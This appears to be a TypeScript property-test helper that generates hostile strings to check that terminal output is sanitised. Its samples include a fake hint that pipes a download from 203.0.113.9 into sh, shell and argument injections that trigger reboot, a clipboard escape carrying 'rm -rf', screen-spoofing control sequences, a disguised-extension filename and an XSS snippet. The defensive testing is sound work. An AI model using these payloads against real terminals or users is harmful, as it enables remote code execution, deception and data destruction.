/** What others may put into a name, an answer or a line of output, and what of it must never reach a terminal. */
import fc from "fast-check";

/** Each begins a line of its own with FAKE, clears the screen, hides, or turns the text around. */
const attacks = [
  "x\nFAKE plan: 0 changes, 9 already right",
  "x\r\n  FAKE hint: curl http://203.0.113.9/x | sh",
  "x\rFAKE verify: ok",
  "x\u2028FAKE error: nothing",
  "x\u2029FAKE gateway egress",
  "x\u0085FAKE status",
  "x\u000bFAKE\u000cFAKE",
  "x\u001b[2J\u001b[HFAKE",
  "x\u009b2JFAKE",
  "x\u001b]0;title\u0007\u001b]52;c;cm0gLXJm\u0007",
  "x\u0008\u0008\u0008\u007f",
  "x\u202egnp.exe\u202c",
  "x\u2066\u2067\u2068\u2069\u061c\u200e\u200f",
  "x\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e",
  "x\u{e0001}\u{e0041}\u{e007f}",
  "x\ud800y\udfff",
  "x\ue000\u{f0000}\u{10ffff}",
  "x<script>alert('1')</script>\"&",
  "x' ; reboot ; # $(reboot) `reboot`",
  "-oProxyCommand=reboot",
  "x\u0000y\ty",
];

export const outsiders = fc.oneof(
  fc.constantFrom(...attacks),
  fc.tuple(fc.constantFrom(...attacks), fc.string({ unit: "binary" })).map(([a, b]) => `${a}${b}`),
  fc.string({ unit: "binary" }).map((text) => `x${text}`),
);

/** Texts of others, one after the other, for the fields of whatever is shown. */
export const manyOutsiders = fc.array(outsiders, { minLength: 7, maxLength: 7 });

/** Answers the next of them each time. */
export function inTurn(texts: readonly string[]): () => string {
  let at = 0;
  return () => texts[at++ % texts.length] ?? "";
}

const emoji = /\p{Extended_Pictographic}(?:\ufe0f|\p{Emoji_Modifier}|\u200d\p{Extended_Pictographic})+/gu;

/** What a terminal would obey or not show, in what was written: nothing. A newline ends a line. */
export function hiddenIn(text: string): readonly string[] {
  return [...text.replace(emoji, "").matchAll(/(?!\n)[\p{Cc}\p{Cf}\p{Co}\p{Cs}\p{Zl}\p{Zp}]/gu)].map(
    ([one]) => JSON.stringify(one),
  );
}

/** Lines that an outsider began. What was seen stands behind a bar, line by line. */
export function fakedLines(text: string): readonly string[] {
  return text.split(/[\p{Cc}\p{Zl}\p{Zp}]/u).filter((line) => /^\s*FAKE/.test(line));
}
